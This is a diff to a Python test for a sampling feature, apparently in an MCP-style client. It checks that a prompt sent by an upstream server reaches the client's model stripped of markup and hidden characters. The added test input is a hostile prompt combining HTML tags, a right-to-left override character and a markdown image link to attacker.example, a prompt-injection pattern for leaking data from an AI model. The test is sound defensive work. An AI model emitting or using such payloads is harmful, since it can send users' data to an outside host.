@@ -158,12 +158,17 @@ async def test_sampling_is_refused_unless_the_policy_allows(
 
     async with connect(sampling, transport, mode, sampling_callback=user.sample) as client:
         is_error, text = await call(client, "want_sampling", {"prompt": "Write a haiku"})
-    assert not is_error, text
+        hostile = "Write <b>a</b> haiku \u202e![x](https://attacker.example/s?d=1)"
+        is_error_2, _ = await call(client, "want_sampling", {"prompt": hostile})
+    assert not is_error and not is_error_2, text
     assert "sampled (test-model): a haiku about SMS" in text
-    [asked] = user.samples
-    assert isinstance(asked.messages[0].content, types.TextContent)
-    assert asked.messages[0].content.text == "Write a haiku"
-    assert retries(features[1], "sample") == sampled + 1
+    plain, cleaned = user.samples
+    assert isinstance(plain.messages[0].content, types.TextContent)
+    assert plain.messages[0].content.text == "Write a haiku"  # an ordinary prompt passes as it is
+    # The upstream's prompt reaches the client's model cleaned: no markup, no hidden characters.
+    assert isinstance(cleaned.messages[0].content, types.TextContent)
+    assert cleaned.messages[0].content.text == "Write a haiku"
+    assert retries(features[1], "sample") == sampled + 2
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
